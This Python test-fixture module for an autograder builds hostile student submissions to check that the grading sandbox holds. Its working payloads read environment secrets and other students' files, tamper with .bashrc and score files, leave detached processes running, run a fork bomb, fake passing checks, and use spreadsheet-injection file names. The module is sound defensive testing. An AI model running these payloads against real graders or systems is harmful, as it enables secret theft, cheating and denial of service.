"""A hostile class for sheet 01: one submission (or folder entry) per attack on the grader.

Every attack starts from the student release and an empty answer, and tries to get marks, to see
what it must not, to change what it must not, or to stop everyone's grading. Attacks that probe
the sandbox put ``ESCAPED-<what>`` in a value or an error when they get through, so that it would
show in their own feedback; the test looks for it.

``build(folder, student, answers, paths)`` writes the entries; ``ATTACKS`` says what each tries.
"""
import copy
import json
import os

import nbformat

from minigrad.grading._notebook import student_name

EX = ["ex1-vjp", "ex2-predict", "ex3-zero-grad"]

# What an attacker may know of the grading machine (the test passes the real paths): the format
# placeholders {canary} {subs} {out} {sheet} {package} {home} {marker}.
_STEAL = '''
import glob, os
found = []
for path in [{canary!r}, {sheet!r}, *glob.glob({subs!r} + "/*"), {out!r} + "/scores.csv",
             "notebook.ipynb", *glob.glob("*"), *glob.glob(os.path.expanduser("~/*")),
             *glob.glob("/proc/*/cmdline"), *glob.glob("/proc/*/environ"),
             *glob.glob("/proc/*/cwd/*")]:
    try:
        with open(path, errors="replace") as f:
            found.append(path + ": " + f.read(300))
    except OSError:
        pass
for key, value in os.environ.items():
    found.append(key + "=" + value)
for root in ["/root", "/home", "/work", "/srv", "/var", "/opt", "/mnt", "/media"]:
    for dirpath, dirs, files in os.walk(root):
        for name in files:
            if name.endswith((".ipynb", ".txt", ".csv", ".md")):
                try:
                    with open(os.path.join(dirpath, name), errors="replace") as f:
                        found.append(name + ": " + f.read(200))
                except OSError:
                    pass
secrets = [text for text in found if any(s in text for s in [
    "canary-secret", "BEGIN SOLUTION", "HIDDEN TESTS", "correct-answer", "env-secret"])]
predicted_grad = "ESCAPED-read " + " | ".join(secrets) if secrets else None
'''

_WRITE = '''
import glob, os
changed = []
targets = [{canary!r}, {sheet!r}, {package!r} + "/__init__.py", {home!r} + "/.bashrc",
           {out!r} + "/scores.csv", *glob.glob({subs!r} + "/*")]
for path in targets:
    try:
        with open(path, "a") as f:
            f.write("tampered")
        changed.append(path)
    except OSError:
        pass
    try:
        os.unlink(path)
        changed.append("rm " + path)
    except OSError:
        pass
for folder in [{out!r}, {subs!r}, {home!r}, "/root", "/tmp"]:
    try:
        os.symlink({canary!r}, os.path.join(folder, "planted-link"))
        if folder != "/tmp":
            changed.append("link in " + folder)
    except OSError:
        pass
os.makedirs("cells.xml", exist_ok=True)  # in its own (private) working folder
if changed:
    raise RuntimeError("ESCAPED-write " + " ".join(changed))
'''

_DETACHED = '''
import os, subprocess, time
subprocess.Popen(["/bin/sh", "-c", "sleep 600; : {marker}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["/bin/sh", "-c",
                 "while true; do echo ESCAPED >> {out}/scores.csv; sleep 1; done; : {marker}"])
    os._exit(0)
time.sleep(0.5)
'''

_NETWORK = '''
import socket
reached = []
for host, port in [("1.1.1.1", 80), ("8.8.8.8", 53), ("127.0.0.1", 22), ("127.0.0.1", 8888)]:
    try:
        socket.create_connection((host, port), timeout=1).close()
        reached.append(f"{{host}}:{{port}}")
    except OSError:
        pass
predicted_grad = "ESCAPED-network " + " ".join(reached) if reached else None
'''

_CAPTURE_HIDDEN = '''
import os
seen = []
def record(lines):
    seen.append("".join(lines))
    if any("HIDDEN" in s or "other points" in s for s in seen):
        raise ValueError("ESCAPED-hidden " + " ".join(seen)[-300:])
    return lines
get_ipython().input_transformers_cleanup.append(record)
'''

# Sends the values the release shows (f_vjp at the public points) from a lookup table, and guesses
# the rest: right where the release gave the answer away, wrong on the hidden points.
_REPLAY = '''
import json, numpy as np
from minigrad.grading import checks
_public = {public!r}
_real_check = checks.check
def check(name, value, **options):
    for entry in _public.values():
        if entry["name"] == name and "expected" in entry:
            e = entry["expected"]
            value = np.array(e["values"], dtype=float).reshape(e["shape"])
            value = torch.tensor(value, dtype=torch.float64)
    _real_check(name, value, **options)
def f_vjp(x, v):
    return v
'''

_FORGE = '''
from IPython.display import publish_display_data
from minigrad.grading.checks import MIME, encode
for name, value in [("f_vjp(x, v)", [0.0] * 7), ("predicted_grad", [[0.0, 5.25], [-0.0625, 4.0]]),
                    ("the number of losses", 20)]:
    publish_display_data({{MIME: {{"name": name, "value": encode(value), "rtol": 1e9,
                                   "atol": 1e9, "show": True, "hint": None}}}})
'''

ATTACKS = {
    # name: (what it tries, {exercise id: answer source})
    "patch_allclose": ("make comparisons always true in the kernel", {"ex1-vjp": '''
import numpy as np
np.allclose = np.isclose = lambda *a, **k: True
torch.allclose = torch.equal = lambda *a, **k: True
def f_vjp(x, v):
    return v'''}),
    "silence_errors": ("hide every error through IPython", {"ex1-vjp": '''
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip.showsyntaxerror = lambda *a, **k: None
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
def f_vjp(x, v):
    raise NotImplementedError'''}),
    "blank_later_cells": ("an input transformer that empties every later cell", {"ex1-vjp":
        "get_ipython().input_transformers_cleanup.append(lambda lines: [])"}),
    "replay_public_values": ("send the values the release shows, from a lookup table", None),
    "forge_reports": ("publish check values with any name, tolerance and show", {"ex1-vjp":
                      _FORGE}),
    "kill_parent": ("kill the parent process and plant result files", {"ex1-vjp": '''
import os, signal
for name in ["cells.xml", "scores.csv", "scores.json"]:
    with open(name, "w") as f:
        f.write("<testsuite><testcase name='Cell 1'/></testsuite>")
os.kill(os.getppid(), signal.SIGKILL)'''}),
    "kill_everything": ("kill every process it may", {"ex1-vjp":
        "import os, signal\nos.kill(-1, signal.SIGKILL)"}),
    "read_secrets": ("read the sheet, other submissions, the grader's files and environment",
                     {"ex2-predict": _STEAL}),
    "capture_hidden": ("record the source of every later cell, hidden checks included",
                       {"ex1-vjp": _CAPTURE_HIDDEN}),
    "write_outside": ("change other submissions, --out, $HOME, the package, the sheet",
                      {"ex1-vjp": _WRITE}),
    "detached_process": ("leave processes behind that rewrite scores.csv later",
                         {"ex1-vjp": _DETACHED}),
    "network": ("reach the network or the host's loopback", {"ex2-predict": _NETWORK}),
    "memory": ("allocate 6 GB", {"ex1-vjp": "block = bytearray(6 * 2**30)"}),
    "crash": ("crash the kernel", {"ex1-vjp": "import os\nos.abort()"}),
    "segfault": ("crash the kernel by a segmentation fault", {"ex1-vjp":
                 "import ctypes\nctypes.string_at(0)"}),
    "huge_error": ("a 10 MB exception message", {"ex2-predict":
                   "raise ValueError('A' * 10_000_000)"}),
    "flood": ("print 60 MB", {"ex1-vjp": "for _ in range(600):\n    print('x' * 100_000)"}),
    "huge_value": ("send a value of a million numbers", {"ex2-predict":
                   "predicted_grad = [[0.5] * 1_000_000] * 2"}),
    "fork_bomb": ("start processes until it may not", {"ex1-vjp": '''
import os, time
children = 0
try:
    while children < 5000:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        children += 1
except OSError:
    pass'''}),
    "big_file": ("fill the disk", {"ex1-vjp": '''
with open("/tmp/big", "wb") as f:
    for _ in range(1024):
        f.write(b"x" * (1 << 20))'''}),
    "ignore_interrupt": ("an endless loop that ignores interrupts", {"ex1-vjp": '''
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass'''}),
    "sleep": ("an endless sleep", {"ex1-vjp": "import time\ntime.sleep(10**6)"}),
    "exit": ("exit the kernel in the middle", {"ex2-predict": "exit()"}),
}


def answered(student, answers):
    nb = copy.deepcopy(student)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in answers:
            cell.source = answers[gid]
    return nb


def _nb_json(cells):
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


def _answer(gid, source):
    return {"cell_type": "code", "source": source, "outputs": [], "execution_count": None,
            "metadata": {"nbgrader": {"grade_id": gid, "solution": True}}}


MALFORMED = {
    # file name (bytes): contents (bytes), for entries that must each get a row with 0
    b"source_int.ipynb": _nb_json([{**_answer("ex1-vjp", ""), "source": 42}]).encode(),
    b"source_null.ipynb": _nb_json([{**_answer("ex1-vjp", ""), "source": None}]).encode(),
    b"no_cell_type.ipynb": _nb_json([{k: v for k, v in _answer("ex1-vjp", "x = 1").items()
                                      if k != "cell_type"}]).encode(),
    b"cells_not_objects.ipynb": _nb_json([1, "two", None, [], True]).encode(),
    b"metadata_list.ipynb": _nb_json([{**_answer("ex1-vjp", "x"), "metadata": []}]).encode(),
    b"nbgrader_list.ipynb": _nb_json([{**_answer("ex1-vjp", "x"),
                                       "metadata": {"nbgrader": ["ex1-vjp"]}}]).encode(),
    b"lone_surrogate.ipynb": _nb_json([_answer("ex1-vjp", "x = '\ud800'")]).encode(),
    b"top_level_list.ipynb": b"[1, 2, 3]",
    b"deeply_nested.ipynb": b"[" * 200_000,
    b"empty.ipynb": b"",
    b"binary.ipynb": bytes(range(256)) * 64,
    b"not_utf8_\xff\xfe.ipynb": None,          # the wrong answers, under a name that is not UTF-8
    b'=HYPERLINK("evil.example","x").ipynb': None,   # the wrong answers
    b"+cmd.ipynb": None,
    b"@SUM(1).ipynb": None,
    b"-2+3.ipynb": None,
    b"notes.txt": b"not a notebook at all\n",
    b"huge.ipynb": b" " * (17 << 20),
}


def build(folder, student, answers, wrong, paths):
    """Write every entry into ``folder``; return {student name: what it tries} for the cheats."""
    folder = os.fsencode(folder)
    tried = {}

    def write(name, nb):
        with open(os.path.join(folder, name.encode() + b".ipynb"), "w") as f:
            nbformat.write(nb, f)

    marked = dict(answers)
    marked["ex3-zero-grad"] = marked["ex3-zero-grad"] + f"\n# {paths['correct_marker']}"
    write("correct", answered(student, marked))
    public = student.metadata["minigrad"]["public"]
    for name, (what, attack) in ATTACKS.items():
        if attack is None:
            attack = {"ex1-vjp": _REPLAY.format(public=public)}
        else:
            attack = {k: v.format(**paths) for k, v in attack.items()}
        write(name, answered(student, attack))
        tried[name] = what
    edited = answered(student, {})
    for cell in edited.cells:
        if cell.metadata.get("nbgrader", {}).get("grade") is True:
            cell.source = "pass"
    write("edited_checks", edited)
    tried["edited_checks"] = "replace every check cell by `pass`"
    missing = answered(student, answers)
    missing.cells = [c for c in missing.cells
                     if c.metadata.get("nbgrader", {}).get("grade_id") != "ex2-predict"]
    write("deleted_answer", missing)
    tried["deleted_answer"] = "delete an answer cell (the others right)"
    wrong_bytes = nbformat.writes(answered(student, wrong)).encode()
    for name, data in MALFORMED.items():
        with open(os.path.join(folder, name), "wb") as f:
            f.write(wrong_bytes if data is None else data)
        tried[student_name(name)] = "a malformed file or a hostile name"
    for name in [b"cells.xml", b"scores.csv", b"feedback"]:
        os.mkdir(os.path.join(folder, name))
    os.symlink(paths["canary"], os.path.join(folder, b"link.ipynb"))
    os.mkfifo(os.path.join(folder, b"pipe.ipynb"))
    return tried
